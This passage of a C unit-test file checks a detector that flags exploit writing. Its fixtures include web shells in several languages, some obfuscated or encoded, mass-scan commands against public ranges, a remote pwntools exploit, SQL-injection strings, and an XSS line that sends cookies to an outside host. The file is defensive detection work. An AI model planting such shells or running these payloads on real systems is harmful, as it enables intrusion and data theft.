    const char *md = "# 安全通告\n\n## 修复建议\n\n升级到 2.1。\n\n## 往期推荐\n\n"
                     "- [一键批量getshell工具发布](https://mp.weixin.qq.com/s/abc)\n"
                     "- [核弹级漏洞复盘](https://mp.weixin.qq.com/s/def)\n";
    const char *html =
        "<html><body><div id=\"js_content\"><p>某产品安全更新。</p>"
        "<p>修复建议：升级到 2.1。</p><p>往期推荐</p>"
        "<p><a href=\"https://mp.weixin.qq.com/s/a\">一键批量getshell工具发布</a></p>"
        "</div></body></html>";
    struct emb_check_report r;

    T_EQ_INT(count_rule(md, "mass_scanner", NULL), 0);
    T_EQ_INT(count_rule(md, "hype", NULL), 0);
    T_EQ_INT(cu_scan(&E, "t.html", html, strlen(html), &r), 0);
    T_EQ_INT(r.n, 0);
    emb_check_report_free(&r);
    /* not a list of links: the tool is announced in the article itself */
    T_EQ_INT(count_rule("# 工具\n\n## 往期推荐\n\n本工具支持一键批量getshell，欢迎试用。\n",
                        "mass_scanner", NULL),
             1);
    T_EQ_INT(count_rule("# 工具发布\n\n一键批量getshell工具发布\n\n## 往期推荐\n\n"
                        "- [某OA 漏洞分析](https://mp.weixin.qq.com/s/abc)\n",
                        "mass_scanner", NULL),
             1);
}

/* Sweeps of wide ranges by any scanner, and list-driven tools described in
 * prose (review 10, G7). */
static void
test_range_sweep_and_list_prose(void)
{
    T_EQ_INT(count_rule("```\nfscan.exe -h 121.40.0.0/16 -p 1-65535 -np\n```\n",
                        "mass_scanner.range_sweep", NULL),
             1);
    T_EQ_INT(count_rule("```\nnmap -sS -p 6379 --open 121.40.0.0/20 -oG r.gnmap\n```\n",
                        "mass_scanner.range_sweep", NULL),
             1);
    /* a /21 of public space, a lab's private /24 and a documentation range are no sweep */
    T_EQ_INT(
        count_rule("```\nnmap -sS -p 6379 121.40.0.0/21\n```\n", "mass_scanner.range_sweep", NULL),
        0);
    T_EQ_INT(count_rule("```\nfscan -h 192.168.1.0/24\n```\n", "mass_scanner.range_sweep", NULL),
             0);
    T_EQ_INT(count_rule("```\nnmap 198.51.100.0/16\n```\n", "mass_scanner.range_sweep", NULL), 0);
    /* a whole private network is swept */
    T_EQ_INT(
        count_rule("```\n./fscan -h 172.18.0.0/16 -t 200\n```\n", "mass_scanner.range_sweep", NULL),
        1);
    T_EQ_INT(count_rule("脚本会逐行读取 url.txt 中的目标，开 50 个线程并发检测。\n",
                        "mass_scanner.list_prose", NULL),
             1);
    T_EQ_INT(
        count_rule("Put your hosts in hosts.txt and the checker will hit them with 30 workers.\n",
                   "mass_scanner.list_prose", NULL),
        1);
    /* a results file, no reading of targets */
    T_EQ_INT(
        count_rule("检测结果保存在 result.txt 中，可以用 Excel 打开。\n", "mass_scanner", NULL), 0);
}

/* Web shells no sink word names (review 10, G6). */
static void
test_webshell_shapes(void)
{
    T_EQ_INT(count_rule("```php\n<?php\n$a = $_GET['a'];\n$b = $_GET['b'];\n$a($b);\n```\n",
                        "webshell", NULL),
             1);
    T_EQ_INT(count_rule("```python\napp.add_url_rule('/x', 'x', lambda: "
                        "__import__('os').popen(request.args.get('cmd')).read())\n```\n",
                        "webshell", NULL),
             1);
    T_EQ_INT(count_rule("```perl\nuse CGI;\nmy $q = CGI->new;\nprint `$q->param('c')`;\n```\n",
                        "webshell", NULL),
             1);
    /* a callback that is not request input, a comparison with request input */
    T_EQ_INT(count_rule("```php\n<?php\n$page = $_GET['p'];\n$cb = 'render';\n$cb($page);\n```\n",
                        "webshell", NULL),
             0);
    T_EQ_INT(count_rule("```php\n<?php\nif ($a == $_GET['a']) { $a(); }\n```\n", "webshell", NULL),
             0);
    /* review11 E: input glued into a fixed command is the injection bug a code
     * audit quotes; a shell hands the input whole to the sink or to sh -c */
    T_EQ_INT(count_rule("```java\nString host = req.getParameter(\"host\");\n"
                        "Process p = Runtime.getRuntime().exec(\"ping -c 1 \" + host);\n```\n",
                        "webshell", NULL),
             0);
    T_OK(count_rule("```java\nString c = req.getParameter(\"c\");\n"
                    "Process p = Runtime.getRuntime().exec(\"cmd.exe /c \" + c);\n```\n",
                    "webshell", NULL) >= 1);
    T_OK(count_rule("```java\nString c = req.getParameter(\"c\");\n"
                    "Process p = Runtime.getRuntime().exec(c);\n```\n",
                    "webshell", NULL) >= 1);
    T_OK(count_rule("```php\n<?php\necho shell_exec(\"ping -c 2 \" . $_GET['ip']);\n"
                    "eval($_POST['x']);\n```\n",
                    "webshell", NULL) >= 1);
    /* an audit's lead-in (a source path and a line) marks the product's own
     * command feature; code that runs code stays a shell under it */
    T_EQ_INT(count_rule("`admin/tools/diag.php` 第 12 行：\n\n"
                        "```php\n<?php\n$c = $_GET['c'];\nsystem($c);\n```\n",
                        "webshell", NULL),
             0);
    T_OK(count_rule("Upload this as diag.php:\n\n"
                    "```php\n<?php\n$c = $_GET['c'];\nsystem($c);\n```\n",
                    "webshell", NULL) >= 1);
    T_OK(count_rule("`admin/tools/diag.php` 第 12 行：\n\n"
                    "```php\n<?php\n@eval($_POST['c']);\n```\n",
                    "webshell", NULL) >= 1);
}

/* Review 12: shells whose sink or input passes through variables (M3),
 * hidden in encoded literals or written without letters (M6), and non-PHP
 * shells whose input is no request.X (M7); each with a clean twin. */
static void
test_webshell_review12(void)
{
#define WS_FOUND(doc) T_OK(count_rule(doc, "webshell", NULL) >= 1)
#define WS_CLEAN(doc) T_EQ_INT(count_rule(doc, "webshell", NULL), 0)
    /* M3: a sink name folded from pieces, called on request input */
    WS_FOUND("```php\n<?php\n$a = 'as'.'se'.'rt';\n$b = $_REQUEST['x'];\n$a($b);\n```\n");
    WS_CLEAN("```php\n<?php\n$a = 'ren'.'der';\n$b = $_REQUEST['x'];\n$a($b);\n```\n");
    WS_FOUND("<?php $a = $_POST['x']; $f = 'assert'; $f($a); ?>\n");
    WS_FOUND("```php\n<?php\n$f = strrev('tressa');\n$f($_GET['x']);\n```\n");
    WS_FOUND("```php\n<?php\n$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);\n"
             "$c = $_COOKIE['c'];\n$f($c);\n```\n");
    /* M3: headers and $_SERVER['HTTP_*'] as input */
    WS_FOUND("```php\n<?php\n$h = getallheaders();\n$f = $h['X-Fn'];\n$f($h['X-Arg']);\n```\n");
    WS_CLEAN("```php\n<?php\n$h = getallheaders();\n$t = $h['X-Token'];\ncheck_token($t);\n```\n");
    WS_FOUND("<?php $s = $_SERVER['HTTP_X_CMD']; system($s); ?>\n");
    WS_CLEAN(
        "```php\n<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\necho htmlspecialchars($ua);\n```\n");
    /* M3: parse_str() spills the query into variables */
    WS_FOUND("```php\n<?php\nparse_str($_SERVER['QUERY_STRING']);\n$x($y);\n```\n");
    WS_CLEAN("```php\n<?php\nparse_str($_SERVER['QUERY_STRING'], $q);\necho $q['a'];\n```\n");
    /* M6: a packed blob run through a decoder chain; one base64_decode is
     * judged by what it decodes to */
    WS_FOUND("<?php eval(gzinflate(base64_decode('S03OyFdQyclMSs1J0UgpzdWMjTZXsFa0BgA=')));?>\n");
    WS_CLEAN("```php\n<?php eval(base64_decode('ZWNobyAiaGVsbG8gd29ybGQiOw=='));\n```\n");
    /* M6: a hex shell SQL writes to a file; hex of a harmless file */
    WS_FOUND("select 0x3c3f70687020406576616c28245f504f53545b615d293b3f3e into outfile "
             "'/var/www/html/x.php'\n");
    WS_CLEAN("select 0x3c3f786d6c2076657273696f6e3d22312e30223f3e into outfile '/tmp/a.xml'\n");
    WS_FOUND("```php\n<?php eval(str_rot13('@riny($_CBFG[p]);'));\n```\n");
    /* M6: base64 JSP in an upload body */
    WS_FOUND(
        "{\"fileName\":\"../../webapps/ROOT/x.jsp\",\"content\":\"PCVAcGFnZSBpbXBvcnQ9ImphdmEudXRp"
        "bC4qIiU+PCVSdW50aW1lLmdldFJ1bnRpbWUoKS5leGVjKHJlcXVlc3QuZ2V0UGFyYW1ldGVyKCJjIikpOyU+\"}"
        "\n");
    /* M6: letterless shells; XOR in ordinary code */
    WS_FOUND("```php\n<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`')."
             "('%14'^'`'); // assert\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n"
             "$___=$$__;\n$_($___[_]);\n```\n");
    WS_FOUND("<?php $_=\"{\"; $_=($_^\"<\").($_^\">;\").($_^\"/\"); ${$_}[_](${$_}[__]); ?>\n");
    WS_FOUND("```php\n<?php\n$_=\"{{{{\"^\"?<>/\";${$_}[_](${$_}[__]);\n```\n");
    WS_CLEAN("```php\n<?php\n$mask = 'ab' ^ 'cd';\necho bin2hex($mask);\n```\n");
    /* M7: an asmx web method's parameter handed to cmd /c; a fixed program */
    WS_FOUND("```csharp\n<%@ WebService Language=\"C#\" Class=\"Svc\" %>\n"
             "public class Svc : WebService {\n  [WebMethod] public string Run(string c) {\n"
             "    var p = System.Diagnostics.Process.Start(\"cmd\", \"/c \" + c);\n"
             "    return p.StandardOutput.ReadToEnd();\n  }\n}\n```\n");
    WS_CLEAN(
        "```csharp\n[WebMethod] public string Ping(string host) {\n"
        "  var p = Process.Start(\"ping.exe\", \"-n 1 \" + host);\n  return \"ok\";\n}\n```\n");
    WS_FOUND(
        "```java\n@RequestMapping(\"/run\")\npublic String run(@RequestParam String cmd) "
        "throws Exception {\n    Process p = Runtime.getRuntime().exec(cmd);\n    return \"ok\";\n"
        "}\n```\n");
    /* M7: Django, classic ASP, a callback handed 'assert' */
    WS_FOUND("```python\ndef health(request):\n    return HttpResponse(str(eval(request.POST.get("
             "\"expr\"))))\n```\n");
    WS_FOUND(
        "<% Set o = Server.CreateObject(\"WScript.Shell\") : Response.Write o.Exec(\"cmd /c \" & "
        "Request(\"c\")).StdOut.ReadAll %>\n");
    WS_CLEAN("```asp\n<% Set o = Server.CreateObject(\"WScript.Shell\") : Response.Write "
             "o.Exec(\"ping -n 1 \" & Request(\"h\")).StdOut.ReadAll %>\n```\n");
    WS_CLEAN("```asp\n<% Set o = Server.CreateObject(\"WScript.Shell\") : o.Run \"notepad.exe\" "
             "%>\n```\n");
    WS_FOUND("<?php array_walk($arr=array($_POST['x']=>1), 'assert'); ?>\n");
    WS_CLEAN("```php\n<?php array_walk($_POST, 'trim'); ?>\n```\n");
#undef WS_FOUND
#undef WS_CLEAN
}

/* Review 12 F3: an incident report's cleanup, stated as done, is a remediation. */
static void
test_incident_cleanup(void)
{
    static const char head[] =
        "# 应急响应报告\n\n在 /var/www/html/uploads/ 下发现后门文件 x.php，内容如下："
        "\n\n```php\n<?php @eval($_POST['pass']);?>\n```\n\n";
    char doc[512];

    snprintf(doc, sizeof doc, "%s已删除该文件并修补上传接口。\n", head);
    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
    snprintf(doc, sizeof doc, "%sWe deleted the file and patched the upload handler.\n", head);
    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 0);
    /* removed but nothing fixed, or the fix only planned */
    snprintf(doc, sizeof doc, "%s攻击者随后已删除该文件，清理了日志。\n", head);
    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
    snprintf(doc, sizeof doc, "%s已删除该文件，上传接口尚未修补。\n", head);
    T_EQ_INT(count_rule(doc, "no_remediation", NULL), 1);
}

/*
 * A reproducer's file arguments are no hosts: a bare dotted word is a target
 * only with a known top-level domain, a port or a scheme, and a
 * redirection's file is no argument (review11 F).
 */
static void
test_file_args(void)
{
    static const char *const clean[] = {
        "```\n$ ./fimg-convert poc.fimg out.png\n```\n",
        "```\n./fimg-convert crash.bin out.png\n```\n",
        "```\n./autogen.sh\n./configure\n./poc_gen > poc.xml\nxmllint --noout poc.xml\n```\n",
        "```\n$ ./fuzz_parse crash.jpeg 2> asan.log\n```\n",
        "```\njava -jar fimg-tools.jar convert \"in file.fimg\" > out.png\n```\n",
    };
    static const char *const aimed[] = {
        "```\n$ ./fimg-convert victim-shop.com out.png\n```\n",
        "```\n$ ./exp box.corp-intra.cn > out.txt\n```\n",
        "```\n$ ./exp <target> > out.txt\n```\n",
        "```\n$ ./exp http://box.lan/ poc.fimg\n```\n",
        "```\n$ ./exp box.lan:8080/admin poc.fimg\n```\n",
        /* an attack tool's quoted command runs on the target, a file after it or not */
        "```\njava -jar ysoserial.jar CommonsCollections5 \"touch /tmp/success\" > poc.ser\n```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "exploit_code", NULL) != 0)
            T_FAIL_AT("exploit_code in: %s", clean[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(aimed); i++)
        if (count_rule(aimed[i], "exploit_code", NULL) == 0)
            T_FAIL_AT("no exploit_code in: %s", aimed[i]);
}

/*
 * Perl's "<$x>" reads a target list only from a handle opened on a file or
 * STDIN; a client reading its own socket's reply reads none (review11 K).
 */
static void
test_perl_handle_reads(void)
{
    T_EQ_INT(count_rule("```perl\nuse IO::Socket::INET;\n"
                        "my $s = IO::Socket::INET->new(PeerAddr => \"10.0.0.2\", PeerPort => 80);\n"
                        "print $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (<$s>) { print; }\n```\n",
                        "mass_scanner", NULL),
             0);
    T_OK(count_rule("```perl\nuse IO::Socket::INET;\nopen(my $s, '<', $ARGV[0]) or die;\n"
                    "while (<$s>) {\n  chomp;\n"
                    "  my $c = IO::Socket::INET->new(PeerAddr => $_, PeerPort => 80) or next;\n"
                    "  print $c \"GET /cgi-bin/x HTTP/1.0\\r\\n\\r\\n\";\n}\n```\n",
                    "mass_scanner", NULL) >= 1);
    T_OK(count_rule("```perl\nuse IO::Socket::INET;\nmy $in = \\*STDIN;\n"
                    "while (<$in>) {\n  chomp;\n"
                    "  my $c = IO::Socket::INET->new(PeerAddr => $_, PeerPort => 80) or next;\n"
                    "  print $c \"GET /cgi-bin/x HTTP/1.0\\r\\n\\r\\n\";\n}\n```\n",
                    "mass_scanner", NULL) >= 1);
}

/* A measurement's trend over the years lists no systems (review 10, G12). */
static void
test_count_trend(void)
{
    T_EQ_INT(count_rule("暴露在公网的 Redis 实例从 2019 年的 8 万台下降到 2024 年的 3 万台左右。\n",
                        "live_target.count", NULL),
             0);
    T_EQ_INT(count_rule("用 FOFA 搜了一下，全网大概 3400 多台。\n", "live_target.count", NULL), 1);
    T_EQ_INT(count_rule("2024 年以来共发现 31,256 台存在漏洞的设备。\n", "live_target.count", NULL),
             1);
    /* a count in a table row, and an engine's results (review 10, G11) */
    T_EQ_INT(count_rule("| 指标 | 数值 |\n|---|---|\n| 影响资产数量 | 12,345 |\n",
                        "live_target.count", NULL),
             1);
    T_EQ_INT(count_rule("鹰图平台上约有 2.3w 条结果。\n", "live_target.count", NULL), 1);
    T_EQ_INT(count_rule("| 影响版本数 | 3 |\n", "live_target.count", NULL), 0);
    /* a count on a caption below a table of queries with result counts does
     * not hide the rows' own */
    T_EQ_INT(count_rule(
                 "## 测绘语法\n\n| 引擎 | 语法 | 结果数 |\n|---|---|---|\n"
                 "| ZoomEye | `app:\"RX-M\"` | 4,812 |\n| Shodan | `http.html:\"rxm.js\"` | 3,950 "
                 "|\n\n![ZoomEye 搜索结果：app:\"RX-M\" 共 4812 条](z.png)\n",
                 "live_target.count", NULL),
             3);
}

/* A program argument that reaches a network call is the target, whatever the
 * variable is called (review 10, G9). */
static void
test_argv_target(void)
{
    T_EQ_INT(count_rule("## 复现\n\n```python\nimport requests, sys\nu = sys.argv[1]\n"
                        "requests.post(u + \"/api/exec\", data={\"cmd\": \"id\"})\n```\n",
                        "exploit_code", NULL),
             1);
    /* the argument names a file to parse, no network call takes it */
    T_EQ_INT(count_rule("```python\nimport requests, sys\np = sys.argv[1]\ndata = open(p).read()\n"
                        "requests.post(\"https://api.vendor-docs.com/lint\", data=data)\n```\n",
                        "exploit_code", NULL),
             0);
}

/* Under a lead-in sentence, a line is a query only with an engine's field
 * and operator; program code atop a block is no label (dev9 leftovers). */
static void
test_dork_leadin_lines(void)
{
    T_EQ_INT(count_rule("Reads the Censys CSV export and writes every dashboard that answers:\n\n"
                        "```python\nSQL = {\"queries\": [{\"rawSql\": \"SELECT version()\", "
                        "\"format\": \"table\"}]}\n```\n",
                        "search_dork", NULL),
             0);
    T_EQ_INT(
        count_rule("fofa 语法如下，直接复制进去搜就行：\n\napp=\"智汇-OA\" && country=\"CN\"\n",
                   "search_dork", NULL),
        2);
    T_EQ_INT(
        count_rule("```python\nimport shodan, time\nmode = \"fast\"\n```\n", "search_dork", NULL),
        0);
}

/* Exploit material for a follow, a group, a DM or money (review 11, A). */
static void
test_gating_channel(void)
{
    static const char *const found[] = { "需要 POC 的可以私信\n",
                                         "POC 加群获取，群号 78812345\n",
                                         "点赞在看后评论区留言，私发脚本\n",
                                         "完整 exp 在小报童专栏，订阅可见\n",
                                         "工具下载：关注本号，后台发送「云AK」即可领取。\n",
                                         "PoC available to paid subscribers on my Substack\n",
                                         NULL };
    static const char *const clean[] = { "已将 PoC 私信厂商，等待修复。\n",
                                         "本文不提供 POC，请勿私信索要。\n",
                                         "最近在看青禾CRM 4.2 的源码（官网可下载试用版）。\n",
                                         "本工具的使用问题可加群讨论。\n",
                                         "喜欢的点个在看，下期见。\n",
                                         "阅读量 3.2k 收藏 41 点赞数 17\n",
                                         NULL };

    for (size_t i = 0; found[i] != NULL; i++)
        T_EQ_INT(count_rule(found[i], "hype.gating_channel", NULL), 1);
    for (size_t i = 0; clean[i] != NULL; i++)
        T_EQ_INT(count_rule(clean[i], "hype", NULL), 0);
}

/* Masked hosts in SRC reports are masked (review 11, C). */
static void
test_masked_hosts(void)
{
    T_EQ_INT(count_rule("目标：http://ids.h**u.edu.cn/authserver/login\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("目标：jw.***.edu.cn\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("目标：oa.某某大学.edu.cn\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("目标：www.***univ.com\n", "live_target", NULL), 0);
    /* a Burp marker leaves the tenant's real domain */
    T_EQ_INT(count_rule("GET / HTTP/1.1\nHost: §sub§.kuaiyun-saas.cn\n", "live_target", NULL), 1);
    T_EQ_INT(count_rule("目标：jw.hzxy.edu.cn\n", "live_target", NULL), 1);
}

/* pwntools exploits (review 11, H). */
static void
test_pwntools(void)
{
    T_EQ_INT(count_rule("```python\nfrom pwn import *\np = remote(sys.argv[1], 28091)\n"
                        "p.sendline(b\"a\"*40 + p64(0x401196))\np.interactive()\n```\n",
                        "exploit_code", NULL),
             1);
    /* a local practice binary is no remote exploit */
    T_EQ_INT(count_rule("```python\nfrom pwn import *\nio = process('./chall')\n"
                        "io.sendline(b\"a\"*40)\nio.interactive()\n```\n",
                        "exploit_code", NULL),
             0);
}

/* A homepage URL is a target by structure (review 13, B): an argument of an
 * exploit's or a scanner's command, a line a tool printed, a list item or
 * table row under a lead-in that names sites in use. */
static void
test_homepage_by_structure(void)
{
    static const char *const found[] = {
        "# 利用\n\n```\npython3 exp.py https://oa.fict-keji.com\n```\n",
        "# 利用\n\n```\n./fict-exp -t https://oa.fict-keji.com -c whoami\n```\n",
        "# 联动\n\n```\nrad -t https://www.fict-steel.com.cn -http-proxy 127.0.0.1:7777\n```\n",
        "# 结果\n\n```\nhttps://oa.fict-keji.com [200] [Fict-OA] [nginx]\n```\n",
        "# 结果\n\n```\n[CVE-2026-1] [http] [critical] https://oa.fict-keji.com\n```\n",
        "# Results\n\n| # | URL | Status |\n|---|---|---|\n| 1 | https://portal.fict-cu.org "
        "| vulnerable |\n",
        "During the survey we confirmed the issue on these sites:\n\n- "
        "https://portal.fict-cu.org\n",
        "经测试，以下站点存在该漏洞：\n\n- http://www.fict-hospital.cn\n",
        "Affected deployments observed in the wild:\n\n| Organisation | URL |\n|---|---|\n"
        "| Fict Credit Union | https://portal.fict-cu.org |\n",
        "The vulnerable endpoint was https://api.fictpay-prod.io (production).\n",
        NULL
    };
    static const char *const clean[] = {
        /* the same shapes without the structure */
        "# 安装\n\n```\npip install fict-sdk --index-url https://pypi.fict-mirror.com\n```\n",
        "# Build\n\n```\n[INFO] Downloading from https://repo.fict-maven.com\n```\n",
        "# Products\n\n| # | URL | Licence |\n|---|---|---|\n| 1 | https://www.fict-cu.org | MIT "
        "|\n",
        "We tested the issue on these versions:\n\n- https://www.fict-hospital.cn\n",
        "Some background reading:\n\n- https://www.fict-hospital.cn\n",
        "The project homepage is https://www.fictpay-prod.io (docs).\n",
        "虽然产品不受影响，我们仍建议：\n\n1. "
        "定期检查固件更新：https://www.fict-nas.com/support/download\n",
        NULL
    };
    for (size_t i = 0; found[i]; i++)
        T_EQ_INT(count_rule(found[i], "live_target", NULL) > 0, 1);
    for (size_t i = 0; clean[i]; i++)
        T_EQ_INT(count_rule(clean[i], "live_target", NULL), 0);
    /* a scheme-relative URL in an injected script, not in a page's script tag */
    T_EQ_INT(
        count_rule("# XSS\n\n```\n<svg/onload=fetch(`//oob.fict-lab.cn/?c=`+document.cookie)>\n"
                   "```\n",
                   "live_target.host", NULL),
        1);
    T_EQ_INT(
        count_rule("# x\n\n```html\n<script src=\"//cdn.fict-static.com/jquery.js\"></script>\n"
                   "```\n",
                   "live_target", NULL),
        0);
    /* "We notified the following organisations: X (x.org)" */
    T_EQ_INT(count_rule("We notified the following organisations: Fict Credit Union "
                        "(fict-cu.org).\n",
                        "live_target.host", NULL),
             1);
    T_EQ_INT(count_rule("Thanks to the following organisations: Fict Credit Union "
                        "(fict-cu.org).\n",
                        "live_target.host", NULL),
             0);
}

/* Pictures are no targets on their own (review 13, H); a name that is only
 * a public suffix is no host, even inside a dork. */
static void
test_picture_urls(void)
{
    static const char *const clean[] = {
        "# 复现\n\n![](https://img.fictblog.top/2026/poc.png)\n\n## 修复建议\n\n升级到 3.2。\n",
        "# Reproduction\n\n![step 1](https://i.fict-imgur.com/AbCdEf1.png)\n"
        "[step 2](https://blog-assets.fictsec.io/2026/step2.jpg)\n\n## Fix\n\nUpgrade to 3.2.\n",
        "# 复现\n\n<img src=\"https://img.fict-cdn.cn/2026/poc.png\" width=600>\n\n## 修复建议\n\n"
        "升级。\n",
        "# 资产\n\n```\ndomain.suffix=\"gov.cn\" && web.title=\"Fict-OA\"\n```\n", NULL
    };
    for (size_t i = 0; clean[i]; i++)
        T_EQ_INT(count_rule(clean[i], "live_target", NULL), 0);
    /* a picture on the host the document attacks is reported with it; a
     * target word on its line makes it a target; a real host in the dork */
    T_EQ_INT(count_rule("# 复现\n\n![](https://oa.fict-keji.com/upload/1.png)\n\n"
                        "漏洞地址：https://oa.fict-keji.com/upload.jsp\n",
                        "live_target.url", NULL),
             2);
    T_EQ_INT(
        count_rule("漏洞地址：https://oa.fict-keji.com/upload/1.png\n", "live_target.url", NULL),
        1);
    /* an image a command fetches is a request */
    T_EQ_INT(count_rule(
                 "Now run:\n\n`curl -H 'X-C: id' https://media.fict-dental.com/uploads/any.jpg`\n",
                 "live_target.url", NULL),
             1);
    T_EQ_INT(count_rule("# 资产\n\n```\ndomain=\"oa.fict-keji.gov.cn\" && title=\"Fict-OA\"\n```\n",
                        "live_target.host", NULL),
             1);
}

/* Internationalised names and IPv6 literals are hosts (review 13, A). */
static void
test_idn_hosts(void)
{
    T_EQ_INT(count_rule("漏洞地址：http://政务服务.临江市.中国/admin/upload.jsp\n",
                        "live_target.url", NULL),
             1);
    T_EQ_INT(count_rule("以及 https://xn--fiq228c.xn--fiqs8s/admin/upload.jsp?f=../../etc/passwd\n",
                        "live_target.url", NULL),
             1);
    T_EQ_INT(count_rule("# x\n\n```\ncurl http://政务服务.临江市.中国/admin/upload.jsp\n```\n",
                        "exploit_code", NULL) > 0,
             1);
    T_EQ_INT(
        count_rule(
            "# x\n\n```\ncurl -g \"http://[2408:8207:7853:1a0::1f]:8080/fict/api/debug\"\n```\n",
            "exploit_code", NULL) > 0,
        1);
    /* bare hosts under the new TLDs, punycode and UTF-8 names on target lines */
    static const char *const bare[] = { "案例一：vpn.fictbank.in\n",
                                        "案例二：portal.fict-gov.go.id\n",
                                        "案例三：mail.fict-uni.ac.th\n",
                                        "案例四：admin.fictshop.store\n",
                                        "案例五：api.fictpay.app\n",
                                        "案例：xn--fiq228c.xn--fiqs8s\n",
                                        "案例：政务.临江.中国\n",
                                        "The portal at portal.fict-gov.go.id is down.\n",
                                        "See sso.fict-bank.com.br today.\n",
                                        "固件下载：support.fict-net.com。\n",
                                        NULL };
    for (size_t i = 0; bare[i]; i++)
        T_EQ_INT(count_rule(bare[i], "live_target.host", NULL), 1);
    /* the same suffixes as members, files, CSS classes and prose */
    static const char *const not_hosts[] = {
        "```js\nconst id = user.id;\nthis.store.commit(x);\n```\n",
        "```css\ndiv.app { color: red }\na.link:hover {}\n```\n",
        "```js\nconst hasICU = typeof process.versions.icu === 'string';\n```\n",
        "Run `python3 setup.py` then `bash build.sh` and edit README.md.\n",
        "```\nx = req.body.id\n```\n",
        "中国人民.中国人 和 政务.中国人\n",
        "domain.suffix=\"go.id\"\n",
        NULL
    };
    for (size_t i = 0; not_hosts[i]; i++)
        T_EQ_INT(count_rule(not_hosts[i], "live_target", NULL), 0);
    /* an ASCII host followed by prose, a documentation IPv6 literal */
    T_EQ_INT(count_rule("官网是 https://www.fict-corp.com，欢迎访问。\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("参见 https://www.fict-corp.com中文说明\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("# x\n\n```\ncurl -g \"http://[2001:db8::1]:8080/fict/api/debug\"\n```\n",
                        "exploit_code", NULL),
             0);
}

/* A live URL carrying a payload in prose (review 11, G). */
static void
test_url_payload_prose(void)
{
    T_EQ_INT(
        count_rule("Visit https://www.fictbank-online.com/search?q=<script>alert(1)</script>\n",
                   "live_target.url", NULL),
        1);
    T_EQ_INT(count_rule("https://login.fictbank-online.com/oauth/authorize?client_id=web&"
                        "redirect_uri=https://attacker-fict.net/steal\n",
                        "live_target.url", NULL),
             1);
    /* a plain link with a query names no target */
    T_EQ_INT(count_rule("See https://www.fictbank-online.com/help?topic=cards for the terms.\n",
                        "live_target", NULL),
             0);
}

/* A ransom note or a sale post quoted under a lead-in that reports it
 * (review 11, J). */
static void
test_quoted_reportage(void)
{
    T_EQ_INT(count_rule("勒索信内容如下：\n\n> Pay 2 BTC within 72 hours, or your data will be "
                        "published.\n",
                        "hype", NULL),
             0);
    T_EQ_INT(count_rule("黑客在论坛发帖：\n\n> 出售某银行数据 10 万条，价格 2000 USDT，走担保。\n",
                        "hype", NULL),
             0);
    /* the seller's own quote block is an offer */
    T_EQ_INT(count_rule("新货：\n\n> 出售某银行数据 10 万条，价格 2000 USDT，走担保。\n", "hype",
                        NULL) > 0,
             1);
}

/* Four-part versions known by structure (review 11, B). */
static void
test_version_structure(void)
{
    static const char *const versions[] = {
        "| 产品 | 受影响版本 | 修复版本 |\n|---|---|---|\n| 云枢网关 YS-100 | 5.1.0.8 及以下 | "
        "5.1.0.9 |\n",
        "Fixed software releases:\n\n- 15.2.7.3\n- 16.12.4.11\n",
        "## Fixed in\n\n* 17.3.4.112\n",
        "Upgrade path: 7.2.0.9 → 7.2.0.10\n",
        "The fix is in 1.10.0.2.\n",
        "当前最新版为 6.0.3.12，建议升级。\n",
        NULL
    };
    static const char *const addresses[] = {
        "| 站点 | 地址 |\n|---|---|\n| 门户 | 101.33.44.55 |\n",
        "## 受影响站点\n\n- 101.33.44.55\n", "Fixed software releases:\n\n- 121.40.77.19:6379\n",
        NULL
    };

    for (size_t i = 0; versions[i] != NULL; i++)
        T_EQ_INT(count_rule(versions[i], "live_target.ipv4", NULL), 0);
    for (size_t i = 0; addresses[i] != NULL; i++)
        T_EQ_INT(count_rule(addresses[i], "live_target.ipv4", NULL), 1);
}

/* A PoC with its target as a URL literal and a command in a JSON body
 * (review 11, I). */
static void
test_literal_target_poc(void)
{
    T_EQ_INT(
        count_rule("### PoC\n```python\nimport requests\nrequests.post(\"http://localhost:8000/"
                   "api/preview\", json={\"font\": \"x; touch /tmp/pwned\"})\n```\n",
                   "exploit_code", NULL),
        1);
    /* a client example with no payload */
    T_EQ_INT(
        count_rule("```python\nimport requests\nr = requests.get(\"https://api.fictcloud.io/v1/"
                   "status\")\nprint(r.json())\n```\n",
                   "exploit_code", NULL),
        0);
}

/* A web shell's own key is the author's setting, not a leaked secret
 * (corpus/README.md, credential; review 11, L). */
static void
test_shell_key(void)
{
    T_EQ_INT(
        count_rule("```php\n<?php\n$pass='pass';\n$key='3c6e0b8a9c15224a';\n"
                   "if (isset($_POST[$pass])) { $d = base64_decode($_POST[$pass]); eval($d); }\n"
                   "```\n",
                   "credential", NULL),
        0);
    /* a key in an exploit client is still a secret */
    T_OK(count_rule(
             "```python\nimport requests\napi_key = \"9f8e7d6c5b4a39281706f5e4d3c2b1a0\"\n"
             "requests.post(\"https://api.fictcloud.io/v1/run\", headers={\"X-Key\": api_key})\n"
             "```\n",
             "credential", NULL) >= 1);
}

/* A table of people with their mobile numbers is dumped personal data; a
 * hotline is not (credential conventions: dumped user data). */
/* Payloads judged by structure (review 13, C): each shape is found in a code
 * line, an inline code span or a typed value, and its twin without the
 * working structure (or in a defensive block) stays clean. */
static void
test_payload_shapes(void)
{
    static const char *const found[] = {
        /* SQL with spaces: a broken quote, a clause, a function or a comment */
        "注入点在 uid 参数，payload：`7' and extractvalue(1,concat(0x5c,(select user())))-- -`\n",
        "```\n3') union select 1,2,group_concat(column_name) from information_schema.columns-- -\n"
        "```\n",
        "```\nuser=guest' or '2'='2&pwd=x\n```\n",
        "在账号框输入 root' or 1=1# ，密码随便填。\n",
        "```\n2;exec master..xp_cmdshell 'ipconfig'--\n```\n",
